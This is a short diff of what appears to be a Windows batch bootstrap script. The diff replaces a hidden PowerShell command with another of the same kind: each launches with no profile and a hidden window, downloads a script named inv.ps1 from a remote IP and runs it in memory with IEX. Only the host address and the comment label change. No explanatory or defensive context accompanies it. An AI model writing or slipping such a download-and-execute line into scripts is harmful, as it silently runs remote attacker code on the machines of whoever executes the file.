@@ -1,2 +1,2 @@
-REM bootstrap 8176 v3
-powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/inv.ps1')"
+REM run 6072 v3
+powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/inv.ps1')"
